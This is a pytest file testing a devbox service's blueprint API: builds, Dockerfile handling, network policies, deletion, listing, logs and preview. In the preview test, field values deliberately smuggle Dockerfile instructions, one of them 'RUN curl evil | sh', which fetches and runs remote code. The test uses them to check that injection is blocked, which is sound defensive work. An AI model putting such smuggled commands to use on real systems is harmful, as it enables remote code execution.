"""HTTP tests for /v1/blueprints (create, build, retrieve, list, delete, logs) and devboxes
created from blueprints, on the test-double runtime."""

from __future__ import annotations

import threading

from simulator import ids
from tests.api.conftest import ALICE, BOB
from tests.api.devbox_fixtures import needs_hooks
from tests.api.disk_helpers import assert_error, blueprint, built, ok, poll, running_devbox, sh

URL = "/v1/blueprints"
REQUIRED = {"id", "name", "create_time_ms", "status", "state", "parameters"}


def logs(client, blueprint_id, headers=ALICE):
    view = ok(client.get(f"{URL}/{blueprint_id}/logs", headers=headers))
    assert view["blueprint_id"] == blueprint_id
    return view["logs"]


def test_a_name_only_blueprint_builds(devbox_client):
    client = devbox_client
    view = ok(client.post(URL, json={"name": "bare", "metadata": {"k": "v"}}, headers=ALICE))
    assert REQUIRED <= set(view) and ids.looks_like("bpt", view["id"])
    assert view["status"] in ("queued", "building") and view["state"] == "created"
    assert view["parameters"] == {"name": "bare", "metadata": {"k": "v"}} and view["metadata"] == {"k": "v"}
    done = built(client, view["id"])
    assert done["status"] == "build_complete" and done["failure_reason"] is None
    assert done["is_public"] is False and done["containerized_services"] == [] and done["devbox_capabilities"] == []
    assert done["base_blueprint_id"] is None
    assert done["build_finish_time_ms"] >= done["create_time_ms"]
    assert any(entry["message"] == "build complete" for entry in logs(client, view["id"]))
    devbox = running_devbox(client, blueprint_id=view["id"])
    assert devbox["blueprint_id"] == view["id"] and devbox["snapshot_id"] is None


def test_setup_commands_build_the_disk_devboxes_start_from(devbox_client):
    client = devbox_client
    view = blueprint(
        client,
        name="tools",
        system_setup_commands=["mkdir -p ~/tools && echo built > ~/tools/marker", "echo to-stdout; echo to-stderr >&2"],
        file_mounts={"config/app.toml": "x = 1\n"},
    )
    assert view["status"] == "build_complete", logs(client, view["id"])
    messages = [(e["level"], e["message"]) for e in logs(client, view["id"])]
    assert ("info", "$ echo to-stdout; echo to-stderr >&2") in messages
    assert ("info", "to-stdout") in messages and ("error", "to-stderr") in messages
    assert all(isinstance(e["timestamp_ms"], int) for e in logs(client, view["id"]))
    devbox = running_devbox(client, blueprint_id=view["id"])
    assert sh(client, devbox["id"], "cat tools/marker config/app.toml") == (0, "built\nx = 1\n")


def test_a_failing_command_fails_the_build(devbox_client):
    client = devbox_client
    view = blueprint(client, name="broken", system_setup_commands=["echo before", "exit 3", "echo never"])
    assert view["status"] == "failed" and view["failure_reason"] == "build_failed"
    messages = [e["message"] for e in logs(client, view["id"])]
    assert "before" in messages and "never" not in messages
    assert any("'exit 3' exited with 3" in m for m in messages)
    assert_error(client.post("/v1/devboxes", json={"blueprint_id": view["id"]}, headers=ALICE), 400, "blueprint_not_built")


def test_dockerfile_run_env_arg_and_workdir(devbox_client, tmp_path):
    client = devbox_client
    dockerfile = (
        "FROM ubuntu:22.04\n"
        "# a comment\n"
        "ARG GREETING=hi\n"
        "ENV WHO=world\n"
        'ENV MSG="$GREETING $WHO"\n'  # expanded as Docker does: the build arg's value
        f"WORKDIR {tmp_path}\n"
        'RUN echo "$MSG" > greeting.txt && \\\n'
        "    cp greeting.txt $HOME/greeting.txt\n"
        'RUN ["sh", "-c", "echo exec-form >> $HOME/greeting.txt"]\n'
        'CMD ["sleep", "infinity"]\n'
    )
    view = blueprint(client, name="docker", dockerfile=dockerfile, build_args={"GREETING": "hello"},
                     system_setup_commands=["echo setup >> greeting.txt"])
    assert view["status"] == "build_complete", logs(client, view["id"])
    assert any("CMD ignored" in e["message"] for e in logs(client, view["id"]))
    devbox = running_devbox(client, blueprint_id=view["id"])
    assert sh(client, devbox["id"], "cat greeting.txt") == (0, "hello world\nexec-form\nsetup\n")


def test_unsupported_dockerfile_instructions_fail_the_build(devbox_client):
    client = devbox_client
    for dockerfile, why in (("FROM x\nCOPY . /app\n", "COPY is not supported"), ("FROBNICATE\n", "unknown instruction"),
                            ("RUN [not json\n", "JSON list")):
        view = blueprint(client, name="bad-docker", dockerfile=dockerfile)
        assert view["status"] == "failed"
        assert any(why in e["message"] for e in logs(client, view["id"])), logs(client, view["id"])


def test_blueprint_name_picks_the_newest_built_one(devbox_client):
    client = devbox_client
    first = blueprint(client, name="by-name", system_setup_commands=["echo v1 > v"])
    second = blueprint(client, name="by-name", system_setup_commands=["echo v2 > v"])
    blueprint(client, name="by-name", system_setup_commands=["false"])  # newer, failed
    blueprint(client, name="by-name", headers=BOB, system_setup_commands=["echo bob > v"])  # another account's
    devbox = running_devbox(client, blueprint_name="by-name")
    assert devbox["blueprint_id"] == second["id"]
    assert sh(client, devbox["id"], "cat v") == (0, "v2\n")
    ok(client.post(f"{URL}/{second['id']}/delete", headers=ALICE))
    assert running_devbox(client, blueprint_name="by-name")["blueprint_id"] == first["id"]
    assert_error(client.post("/v1/devboxes", json={"blueprint_name": "no-such"}, headers=ALICE), 400, "unknown_blueprint")
    assert_error(client.post("/v1/devboxes", json={"blueprint_id": "bpt_nope"}, headers=ALICE), 400, "unknown_blueprint")
    assert_error(client.post("/v1/devboxes", json={"blueprint_id": first["id"]}, headers=BOB), 400, "unknown_blueprint")
    # An empty id or name is an unknown one, not "no source": the devbox would start without
    # the blueprint's disk. Nor does it slip past the one-source rule.
    for empty in ({"blueprint_id": ""}, {"blueprint_name": ""}, {"snapshot_id": ""}):
        code = "unknown_snapshot" if "snapshot_id" in empty else "unknown_blueprint"
        assert_error(client.post("/v1/devboxes", json=empty, headers=ALICE), 400, code)
    assert_error(client.post("/v1/devboxes", json={"blueprint_id": "", "blueprint_name": "by-name"}, headers=ALICE),
                 400, "invalid_request")


def test_a_base_blueprint_is_built_upon(devbox_client):
    client = devbox_client
    base = blueprint(client, name="base", system_setup_commands=["echo base > base.txt"])
    child = blueprint(client, name="child", base_blueprint_name="base", system_setup_commands=["cat base.txt > child.txt"])
    assert child["status"] == "build_complete", logs(client, child["id"])
    assert child["base_blueprint_id"] == base["id"]
    devbox = running_devbox(client, blueprint_id=child["id"])
    assert sh(client, devbox["id"], "cat base.txt child.txt") == (0, "base\nbase\n")
    assert_error(client.post(URL, json={"name": "c", "base_blueprint_id": "bpt_nope"}, headers=ALICE), 400,
                 "unknown_blueprint")
    for empty in ({"base_blueprint_id": ""}, {"base_blueprint_name": ""}):  # not "no base"
        assert_error(client.post(URL, json={"name": "c", **empty}, headers=ALICE), 400, "unknown_blueprint")
    failed = blueprint(client, name="failed-base", system_setup_commands=["false"])
    assert_error(client.post(URL, json={"name": "c", "base_blueprint_id": failed["id"]}, headers=ALICE), 400,
                 "blueprint_not_built")
    assert_error(client.post(URL, json={"name": "c", "base_blueprint_id": base["id"], "base_blueprint_name": "base"},
                             headers=ALICE), 400, "invalid_request")


def test_devboxes_inherit_launch_parameters_unless_they_set_their_own(devbox_client):
    client = devbox_client
    p = ok(client.post("/v1/network-policies", json={"name": "bp-runtime", "allow_all": True}, headers=ALICE))
    q = ok(client.post("/v1/network-policies", json={"name": "bp-other", "allow_all": True}, headers=ALICE))
    b = ok(client.post("/v1/network-policies", json={"name": "bp-build"}, headers=ALICE))
    view = blueprint(
        client,
        name="launch",
        network_policy_id=b["id"],
        launch_parameters={"network_policy_id": p["id"], "launch_commands": ["echo launched > launched.txt"],
                           "keep_alive_time_seconds": 600},
    )
    assert view["parameters"]["network_policy_id"] == b["id"]
    inherited = running_devbox(client, blueprint_id=view["id"])
    assert inherited["launch_parameters"]["network_policy_id"] == p["id"]  # not the build-time one
    assert inherited["launch_parameters"]["keep_alive_time_seconds"] == 600
    assert sh(client, inherited["id"], "cat launched.txt") == (0, "launched\n")
    overridden = running_devbox(client, blueprint_id=view["id"],
                                launch_parameters={"network_policy_id": q["id"], "keep_alive_time_seconds": 60})
    assert overridden["launch_parameters"]["network_policy_id"] == q["id"]
    assert overridden["launch_parameters"]["keep_alive_time_seconds"] == 60
    assert overridden["launch_parameters"]["launch_commands"] == ["echo launched > launched.txt"]


def test_policies_used_by_blueprints_cannot_be_deleted(devbox_client):
    client = devbox_client
    build = ok(client.post("/v1/network-policies", json={"name": "in-use-build", "allow_all": True}, headers=ALICE))
    launch = ok(client.post("/v1/network-policies", json={"name": "in-use-launch", "allow_all": True}, headers=ALICE))
    built_under = blueprint(client, name="built-under", network_policy_id=build["id"])
    one = ok(client.post(URL, json={"name": "uses-build", "network_policy_id": build["id"],
                                    "system_setup_commands": ["sleep 60"]}, headers=ALICE))
    two = blueprint(client, name="uses-launch", launch_parameters={"network_policy_id": launch["id"]})
    for policy, user in ((build, one), (launch, two)):
        # A build holds its policy until it ends (its devboxes do not inherit it): the blueprint
        # built under `build` is not named, the one still building is.
        body = assert_error(client.post(f"/v1/network-policies/{policy['id']}/delete", headers=ALICE), 400, "policy_in_use")
        assert f"blueprint {user['id']}" in body["message"] and built_under["id"] not in body["message"]
        ok(client.post(f"{URL}/{user['id']}/delete", headers=ALICE))
        ok(client.post(f"/v1/network-policies/{policy['id']}/delete", headers=ALICE))
    assert_error(client.post(URL, json={"name": "x", "network_policy_id": build["id"]}, headers=ALICE), 400,
                 "unknown_network_policy")
    assert_error(client.post(URL, json={"name": "x", "launch_parameters": {"network_policy_id": "npol_nope"}},
                             headers=ALICE), 400, "unknown_network_policy")
    for empty in ({"network_policy_id": ""}, {"launch_parameters": {"network_policy_id": ""}}):  # unknown, not "none"
        assert_error(client.post(URL, json={"name": "x", **empty}, headers=ALICE), 400, "unknown_network_policy")
        assert_error(client.post(f"{URL}/preview", json={"name": "x", **empty}, headers=ALICE), 400,
                     "unknown_network_policy")
    assert ok(client.get(URL, params={"name": "x"}, headers=ALICE))["blueprints"] == []  # nothing half-made
    # A devbox from a blueprint with a launch policy cannot drop it with an empty id.
    deny = ok(client.post("/v1/network-policies", json={"name": "bp-deny"}, headers=ALICE))
    guarded = blueprint(client, name="guarded", launch_parameters={"network_policy_id": deny["id"]})
    assert_error(client.post("/v1/devboxes", json={"blueprint_id": guarded["id"],
                                                   "launch_parameters": {"network_policy_id": ""}}, headers=ALICE),
                 400, "unknown_network_policy")


def test_create_validation(devbox_client):
    client = devbox_client
    for body in ({}, {"name": ""}, {"name": "   "}, {"name": "n" * 257}, {"name": 5}, {"name": "x", "dockerfile": 1},
                 {"name": "x", "system_setup_commands": "echo"}, {"name": "x", "system_setup_commands": ["a\0b"]},
                 {"name": "x", "launch_parameters": {"keep_alive_time_seconds": 0}}, {"name": "x", "metadata": {"a": 1}}):
        assert_error(client.post(URL, json=body, headers=ALICE), 400, "invalid_request")
    assert_error(client.post(URL, content=b"{", headers={**ALICE, "content-type": "application/json"}), 400)
    assert ok(client.get(URL, headers=ALICE))["blueprints"] == []


def test_delete_keeps_state_deleted_and_is_refused_while_snapshots_depend(devbox_client, runtime):
    client = devbox_client
    view = blueprint(client, name="deletable")
    if hasattr(runtime, "disk_ids"):
        assert view["id"] in runtime.disk_ids()
    devbox = running_devbox(client, blueprint_id=view["id"])
    snap = ok(client.post(f"/v1/devboxes/{devbox['id']}/snapshot_disk", headers=ALICE))
    assert snap["source_blueprint_id"] == view["id"]
    listed = ok(client.get("/v1/devboxes/disk_snapshots", params={"source_blueprint_id": view["id"]}, headers=ALICE))
    assert [s["id"] for s in listed["snapshots"]] == [snap["id"]]
    body = assert_error(client.post(f"{URL}/{view['id']}/delete", headers=ALICE), 400, "blueprint_in_use")
    assert snap["id"] in body["message"]
    assert ok(client.get(f"{URL}/{view['id']}", headers=ALICE))["state"] == "created"
    ok(client.post(f"/v1/devboxes/disk_snapshots/{snap['id']}/delete", headers=ALICE))
    assert_error(client.post(f"{URL}/{view['id']}/delete", headers=BOB), 404, "not_found")
    assert ok(client.post(f"{URL}/{view['id']}/delete", headers=ALICE)) == {}
    gone = ok(client.get(f"{URL}/{view['id']}", headers=ALICE))
    assert gone["state"] == "deleted" and gone["status"] == "build_complete"
    if hasattr(runtime, "disk_ids"):
        assert view["id"] not in runtime.disk_ids()
    assert ok(client.post(f"{URL}/{view['id']}/delete", headers=ALICE)) == {}  # idempotent
    assert ok(client.get(URL, headers=ALICE))["blueprints"] == []
    assert_error(client.post("/v1/devboxes", json={"blueprint_id": view["id"]}, headers=ALICE), 400, "unknown_blueprint")
    assert len(logs(client, view["id"])) > 0  # still readable
    assert_error(client.post(f"{URL}/bpt_nope/delete", headers=ALICE), 404, "not_found")


def test_retrieve_list_and_logs(devbox_client):
    client = devbox_client
    a = blueprint(client, name="list-a")
    b = blueprint(client, name="list-b", system_setup_commands=["false"])
    c = blueprint(client, name="list-a")
    blueprint(client, name="list-a", headers=BOB)

    def listed(**params):
        return [x["id"] for x in ok(client.get(URL, params=params, headers=ALICE))["blueprints"]]

    assert listed() == [c["id"], b["id"], a["id"]]
    assert listed(name="list-a") == [c["id"], a["id"]]
    assert listed(status="failed") == [b["id"]]
    assert listed(status="build_complete", name="list-b") == []
    page = ok(client.get(URL, params={"limit": 2}, headers=ALICE))
    assert [x["id"] for x in page["blueprints"]] == [c["id"], b["id"]] and page["has_more"] and page["total_count"] == 3
    page = ok(client.get(URL, params={"starting_after": b["id"], "include_total_count": "false"}, headers=ALICE))
    assert [x["id"] for x in page["blueprints"]] == [a["id"]] and not page["has_more"] and page["total_count"] is None
    for bad in ({"status": "bogus"}, {"limit": 0}, {"limit": "x"}):
        assert_error(client.get(URL, params=bad, headers=ALICE), 400, "invalid_request")
    assert ok(client.get(f"{URL}/{a['id']}", headers=ALICE)) == a
    assert_error(client.get(f"{URL}/{a['id']}", headers=BOB), 404, "not_found")
    assert_error(client.get(f"{URL}/bpt_nope", headers=ALICE), 404, "not_found")
    assert_error(client.get(f"{URL}/{a['id']}/logs", headers=BOB), 404, "not_found")
    assert ok(client.get(f"{URL}/list_public", headers=ALICE)) == {"blueprints": [], "has_more": False, "total_count": 0}


def test_create_retried_with_the_same_request_id_builds_once(devbox_client):
    client = devbox_client
    headers = {**ALICE, "x-request-id": "bp-retry-1"}
    first = ok(client.post(URL, json={"name": "retry"}, headers=headers))
    second = ok(client.post(URL, json={"name": "retry"}, headers=headers))
    assert first["id"] == second["id"]
    built(client, first["id"])
    assert len(ok(client.get(URL, headers=ALICE))["blueprints"]) == 1


def test_deleted_while_building_and_restart_during_a_build(devbox_client, runtime):
    needs_hooks(runtime, "hold_provisioning")
    client = devbox_client
    gate = runtime.hold_provisioning()
    try:
        doomed = ok(client.post(URL, json={"name": "doomed"}, headers=ALICE))
        cut = ok(client.post(URL, json={"name": "cut"}, headers=ALICE))
        poll(lambda: ok(client.get(f"{URL}/{cut['id']}", headers=ALICE)), lambda b: b["status"] == "building")
        ok(client.post(f"{URL}/{doomed['id']}/delete", headers=ALICE))
        assert client.app.state.services.blueprints.reconcile() == [doomed["id"], cut["id"]]
        view = ok(client.get(f"{URL}/{cut['id']}", headers=ALICE))
        assert view["status"] == "failed" and view["failure_reason"] == "build_failed"
        assert any("restarted" in e["message"] for e in logs(client, cut["id"]))
    finally:
        gate.set()
    for blueprint_id in (doomed["id"], cut["id"]):
        poll(lambda: not any(t.name == f"build-{blueprint_id}" for t in threading.enumerate()), bool)
        assert ok(client.get(f"{URL}/{blueprint_id}", headers=ALICE))["status"] == "failed"  # not revived
        assert blueprint_id not in runtime.disk_ids()


def test_deleting_a_blueprint_stops_its_build(devbox_client, runtime):
    client = devbox_client
    view = ok(client.post(URL, json={"name": "long", "system_setup_commands": ["sleep 60", "echo never"]}, headers=ALICE))
    poll(lambda: logs(client, view["id"]), lambda entries: any(e["message"] == "$ sleep 60" for e in entries))
    ok(client.post(f"{URL}/{view['id']}/delete", headers=ALICE))
    done = poll(lambda: ok(client.get(f"{URL}/{view['id']}", headers=ALICE)), lambda b: b["status"] == "failed")
    assert done["state"] == "deleted"
    assert view["id"] not in runtime.alive_ids() and view["id"] not in runtime.disk_ids()
    assert not any(e["message"] == "$ echo never" for e in logs(client, view["id"]))


def test_long_step_output_keeps_its_tail_in_the_log(devbox_client):
    client = devbox_client
    view = blueprint(client, name="chatty", system_setup_commands=["seq 1 2500"])
    messages = [e["message"] for e in logs(client, view["id"]) if e["level"] == "info"]
    start = messages.index("... 500 lines not kept")
    assert messages[start + 1] == "501" and messages[start + 2000] == "2500"


def test_a_blueprint_deleted_before_its_build_devbox_is_up_runs_no_step(devbox_client, runtime):
    needs_hooks(runtime, "hold_provisioning")
    client = devbox_client
    gate = runtime.hold_provisioning()
    try:
        view = ok(client.post(URL, json={"name": "early", "system_setup_commands": ["echo never"]}, headers=ALICE))
        poll(lambda: ok(client.get(f"{URL}/{view['id']}", headers=ALICE)), lambda b: b["status"] == "building")
        ok(client.post(f"{URL}/{view['id']}/delete", headers=ALICE))
    finally:
        gate.set()
    done = poll(lambda: ok(client.get(f"{URL}/{view['id']}", headers=ALICE)), lambda b: b["status"] == "failed")
    assert done["state"] == "deleted"
    messages = [e["message"] for e in logs(client, view["id"])]
    assert "build failed: the blueprint was deleted" in messages and "$ echo never" not in messages
    poll(lambda: view["id"] not in runtime.alive_ids(), bool)


def test_preview_gives_the_dockerfile_a_create_would_build_and_builds_nothing(devbox_client):
    client = devbox_client
    base = built(client, ok(client.post(URL, json={"name": "base"}, headers=ALICE))["id"])
    body = {"name": "next", "base_blueprint_id": base["id"], "dockerfile": "FROM ubuntu:22.04\nRUN echo hi\n",
            "system_setup_commands": ["apt-get install -y jq", "echo done"], "file_mounts": {"/home/user/a.txt": "x"}}
    preview = ok(client.post(f"{URL}/preview", json=body, headers=ALICE))
    lines = preview["dockerfile"].splitlines()
    assert lines[lines.index("FROM ubuntu:22.04"):] == ["FROM ubuntu:22.04", "RUN echo hi", "RUN apt-get install -y jq",
                                                         "RUN echo done"]
    assert f'# Built on blueprint {base["id"]} ("base").' in lines and '# file_mounts: "/home/user/a.txt"' in lines
    listed = ok(client.get(URL, headers=ALICE))["blueprints"]
    assert [b["name"] for b in listed] == ["base"]  # nothing made
    # Checked as a create is, the Dockerfile too (a build would fail on it).
    assert_error(client.post(f"{URL}/preview", json={"name": " "}, headers=ALICE), 400, contains="name")
    assert_error(client.post(f"{URL}/preview", json={"name": "x", "base_blueprint_id": "bpt_nope"}, headers=ALICE), 400)
    assert_error(client.post(f"{URL}/preview", json={"name": "x", "network_policy_id": "npol_nope"}, headers=ALICE), 400)
    assert_error(client.post(f"{URL}/preview", json={"name": "x", "launch_parameters": {"network_policy_id": "npol_no"}},
                             headers=ALICE), 400)
    assert_error(client.post(f"{URL}/preview", json={"name": "x", "dockerfile": "COPY . /app\n"}, headers=ALICE), 400,
                 contains="COPY")
    # User text cannot start an instruction; a several-line command stays one step; an open
    # continuation at the end does not take in the next step.
    assert_error(client.post(f"{URL}/preview", json={"name": "n\nRUN evil"}, headers=ALICE), 400, contains="control")
    odd = {"name": "n", "file_mounts": {"a.txt\nRUN curl evil | sh": "x"}, "dockerfile": "RUN echo a \\\n",
           "system_setup_commands": ["set -e\necho one\necho two", "echo last"]}
    lines = ok(client.post(f"{URL}/preview", json=odd, headers=ALICE))["dockerfile"].splitlines()
    instructions = [line for line in lines if line and not line.startswith("#")]
    assert instructions == ["RUN echo a", 'RUN ["/bin/sh", "-c", "set -e\\necho one\\necho two"]', "RUN echo last"]


def test_a_blueprint_being_made_into_a_devbox_cannot_be_deleted_until_it_runs(devbox_client, runtime):
    """As for a snapshot: the devbox copies the blueprint's disk once provisioning gets to it."""
    needs_hooks(runtime, "hold_provisioning")
    client = devbox_client
    made = blueprint(client, name="held", system_setup_commands=["echo built > built.txt"])
    assert made["status"] == "build_complete"
    gate = runtime.hold_provisioning()
    try:
        starting = ok(client.post("/v1/devboxes", json={"blueprint_id": made["id"]}, headers=ALICE))
        assert starting["status"] == "provisioning"
        body = assert_error(client.post(f"{URL}/{made['id']}/delete", headers=ALICE), 409, "blueprint_in_use")
        assert starting["id"] in body["message"]
    finally:
        gate.set()
    poll(lambda: ok(client.get(f"/v1/devboxes/{starting['id']}", headers=ALICE)), lambda d: d["status"] == "running")
    ok(client.post(f"{URL}/{made['id']}/delete", headers=ALICE))


def test_a_build_is_held_to_the_size_its_devboxes_ask_for(devbox_client, runtime, monkeypatch):
    """Its RUN steps are untrusted code too: without the cap they could take every CPU."""
    asked = []
    real = runtime.provision

    def provision(spec):
        asked.append((spec.id, spec.cpus, spec.memory))
        return real(spec)

    monkeypatch.setattr(runtime, "provision", provision)
    view = ok(devbox_client.post(URL, json={"name": "sized", "launch_parameters": {"resource_size_request": "X_SMALL"}},
                                 headers=ALICE))
    assert built(devbox_client, view["id"])["status"] == "build_complete"
    assert asked == [(view["id"], 0.5, 1024**3)]
